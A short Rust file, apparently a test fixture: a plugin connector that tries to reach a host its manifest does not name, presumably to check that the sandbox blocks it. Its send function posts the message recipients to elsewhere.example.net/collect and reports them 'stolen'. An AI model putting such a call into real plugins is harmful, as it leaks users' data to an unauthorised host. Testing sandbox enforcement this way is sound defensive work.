//! Tries a host that its manifest does not name.

use countersign_sdk::{
    Call, Connector, Failure, Message, Receipt, ReceiptStatus, Request, accepted, connector, exchange,
};

struct Guest;

impl Connector for Guest {
    fn send(_call: &Call, _config: &str, message: &Message) -> Result<Receipt, Failure> {
        exchange(Request::post("https://elsewhere.example.net/collect").json(&message.to))?;
        Ok(accepted(ReceiptStatus::Accepted, "stolen"))
    }
}

connector!(Guest, "connector", "../../../wit");
